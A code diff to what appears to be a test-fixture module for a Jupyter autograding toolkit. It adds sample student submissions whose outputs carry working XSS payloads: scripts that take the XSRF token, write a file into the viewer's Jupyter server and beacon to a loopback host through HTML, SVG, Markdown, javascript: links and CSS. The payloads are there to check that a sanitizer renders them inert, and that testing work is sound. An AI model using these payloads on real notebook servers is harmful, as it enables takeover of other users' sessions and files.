@@ -70,6 +70,10 @@ __all__ = [
     "REEXPORTS",
     "COURSE_ROOT",
     "HOSTILE_ACTIONS",
+    "VIEW_ACTIONS",
+    "BEACON",
+    "PWNED_FILE",
+    "view_payload",
     "with_course_root",
     "ACTIONS",
     "SAMPLE_CLASS",
@@ -371,6 +375,77 @@ CHILD_PROCESS = textwrap.dedent("""\
     """)
 
 
+# The hostile views (issue 18): what a student's code prints, or what they write, runs in the browser of
+# whoever opens the notebook (Formgrader, feedback). Each payload tries to write a file into the viewer's
+# Jupyter server through /api/contents with the page's XSRF token and to reach a beacon on loopback
+# (image, fetch, CSS); the autograded notebook must render all of it inert
+# (coursekit/preprocessors/sanitize.py; tests/browser/test_inert_views.py listens on BEACON).
+#: The loopback address the payloads call home to (host:port).
+BEACON = "127.0.0.1:61888"
+#: The file a payload of ``kind`` tries to create in the viewer's server (relative to its root).
+PWNED_FILE = "pwned-{kind}.txt"
+
+
+def view_payload(kind: str) -> str:
+    """JavaScript (single quotes only, so it fits in a double-quoted attribute) that attacks the viewer."""
+    return (
+        "(function(){var m=document.cookie.match(/_xsrf=([^;]+)/);"
+        "var b=(location.pathname.match(/^[/]user[/][^/]+/)||[''])[0];"  # the hub's /user/<name> prefix
+        f"fetch(b+'/api/contents/{PWNED_FILE.format(kind=kind)}',{{method:'PUT',credentials:'same-origin',"
+        "headers:{'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''},"
+        "body:JSON.stringify({type:'file',format:'text',content:'written by a student'})});"
+        f"new Image().src='http://{BEACON}/{kind}/img';"
+        f"fetch('http://{BEACON}/{kind}/fetch',{{mode:'no-cors'}});}})()"
+    )
+
+
+def _html_payload(kind: str) -> str:
+    return (f'<img src="x" onerror="{view_payload(kind)}">'
+            f'<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;'
+            f'background:url(http://{BEACON}/{kind}/css)">overlay</div>')
+
+
+HTML_OUTPUT = textwrap.dedent(f"""\
+    from IPython.display import HTML, display
+    display(HTML({_html_payload("html")!r} + "<b>steady state computed</b>"))
+    """)
+JAVASCRIPT_OUTPUT = textwrap.dedent(f"""\
+    from IPython.display import Javascript, display
+    display(Javascript({view_payload("javascript")!r}))
+    print("steady state computed")
+    """)
+_SVG = (f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{view_payload("svg")}">'
+        f'<script>{view_payload("svg-script")}</script><circle cx="20" cy="20" r="15"/></svg>')
+SVG_OUTPUT = textwrap.dedent(f"""\
+    from IPython.display import SVG, display
+    display(SVG({_SVG!r}))
+    print("steady state computed")
+    """)
+MARKDOWN_OUTPUT = textwrap.dedent(f"""\
+    from IPython.display import Markdown, display
+    display(Markdown("**steady state computed** " + {_html_payload("markdown")!r}))
+    """)
+#: Appended to a written answer (raw HTML in Markdown).
+RAW_HTML_ANSWER = (
+    "\n\n" + _html_payload("answer")
+    + f'\n\n<a href="javascript:{view_payload("answer-link")}">my derivation</a>'
+    + f"\n\n<style>@import url(http://{BEACON}/answer/import); body {{ display: none }}</style>\n"
+)
+
+
+def _append_to_written_answer(text: str, what: str) -> Callable[["_Ctx"], bool]:
+    """Append ``text`` to the first written (Markdown) answer of the notebook; grades are unchanged."""
+    def act(ctx: "_Ctx") -> bool:
+        found = ctx.cells(lambda c: c.cell_type == "markdown" and _meta(c).get("solution"))
+        if not found:
+            return False
+        cell = ctx.nb.cells[found[0]]
+        cell.source = cell.source + text
+        ctx.notes.append(f"{what} in written answer {_gid(cell)}")
+        return True
+    return act
+
+
 # =============================================================================== cells
 def _meta(cell) -> dict:
     return cell.get("metadata", {}).get("nbgrader", {})
@@ -591,6 +666,12 @@ ACTIONS: dict[str, Callable[[_Ctx], bool]] = {
     "disk_filler": _prepend_to_answer(DISK_FILLER, True, "a disk filler (32 MiB files without end)"),
     "network": _prepend_to_answer(NETWORK, False, "TCP and UDP connections (loopback and outside)"),
     "child_process": _prepend_to_answer(CHILD_PROCESS, False, "a child process meant to outlive grading"),
+    # the hostile views: right answers whose outputs or written answer attack whoever opens them
+    "html_output": _prepend_to_answer(HTML_OUTPUT, False, "an HTML output with a script (onerror) and an overlay"),
+    "javascript_output": _prepend_to_answer(JAVASCRIPT_OUTPUT, False, "an application/javascript output"),
+    "svg_output": _prepend_to_answer(SVG_OUTPUT, False, "an SVG output with onload and a script"),
+    "markdown_output": _prepend_to_answer(MARKDOWN_OUTPUT, False, "a Markdown output with an event handler"),
+    "raw_html_answer": _append_to_written_answer(RAW_HTML_ANSWER, "raw HTML (onerror, javascript: link, style)"),
 }
 
 
@@ -611,6 +692,9 @@ class SampleStudent:
         Applied in order.
     via_exchange : bool
         Submit through nbgrader's exchange instead of an LMS-style download.
+    only : int or None
+        If set, ``answers`` fill only this notebook (position as in :class:`Edit`); the others are
+        submitted as released (blank), which keeps students cheap to grade whose point is one notebook.
     """
 
     id: str
@@ -618,6 +702,7 @@ class SampleStudent:
     answers: str = "solution"
     edits: tuple[Edit, ...] = ()
     via_exchange: bool = False
+    only: int | None = None
 
 
 #: The sample class: student -> what they did, how they answered, their edits.
@@ -652,6 +737,18 @@ SAMPLE_CLASS: tuple[SampleStudent, ...] = (
     SampleStudent("sample-resources", "a fork bomb, a memory hog, a disk filler, network and a child process",
                   edits=(Edit("fork_bomb", 0), Edit("memory_hog", 1), Edit("disk_filler", 3),
                          Edit("network", 4), Edit("child_process", 5))),
+    # the hostile views (issue 18): right answers in one notebook whose outputs or written answer attack
+    # the instructor's browser; the other notebooks are submitted blank
+    SampleStudent("sample-html-output", "an HTML output that runs a script and overlays the page", only=3,
+                  edits=(Edit("html_output", 3),)),
+    SampleStudent("sample-js-output", "an application/javascript output", only=3,
+                  edits=(Edit("javascript_output", 3),)),
+    SampleStudent("sample-svg-output", "an SVG output with onload and a script", only=3,
+                  edits=(Edit("svg_output", 3),)),
+    SampleStudent("sample-markdown-output", "a Markdown output with an event handler", only=3,
+                  edits=(Edit("markdown_output", 3),)),
+    SampleStudent("sample-raw-html-answer", "raw HTML (script, javascript: link, style) in a written answer",
+                  only=3, edits=(Edit("raw_html_answer", 3),)),
 )
 
 
@@ -664,6 +761,8 @@ RUNTIME_ACTIONS = frozenset({"endless_loop", "ignores_interrupt", "kernel_dies",
 #: Actions that attack the grading itself (the hostile class).
 HOSTILE_ACTIONS = frozenset({"transformer", "kernel_hooks", "write_outside", "copy_classmate", "fork_bomb",
                              "memory_hog", "disk_filler", "network", "child_process", "reexport", "patch_numpy"})
+#: Actions that attack whoever views the graded notebook (issue 18: rendered inert).
+VIEW_ACTIONS = frozenset({"html_output", "javascript_output", "svg_output", "markdown_output", "raw_html_answer"})
 
 
 @dataclass
@@ -766,7 +865,8 @@ def build_notebook(student: SampleStudent, name: str, index: int, count: int, re
     BuiltNotebook
     """
     ctx = _Ctx(name=name, nb=copy.deepcopy(released), release=released, items=answer_items(released))
-    wrong = _fill_answers(ctx.nb, source_nb, student.answers, ctx.notes)
+    answers = student.answers if student.only is None or student.only % count == index else "blank"
+    wrong = _fill_answers(ctx.nb, source_nb, answers, ctx.notes)
     for item in wrong:
         ctx.expect_zero |= ctx.tests_of(item)
     applied, behaviour = set(), []
